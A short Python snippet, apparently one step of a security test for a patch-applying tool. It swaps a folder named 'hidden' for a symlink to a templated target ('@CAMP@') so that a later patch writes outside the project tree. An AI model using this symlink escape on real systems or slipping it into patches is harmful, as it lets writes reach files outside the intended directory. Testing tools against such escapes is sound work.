# leave the tree | replaces a folder of the tree by a link to one of the user's, for the next patch to write through
import os
def attempt():
    try:
        os.rename("hidden", "hidden.away")
        os.symlink("@CAMP@", "hidden")
        return True
    except OSError:
        return False
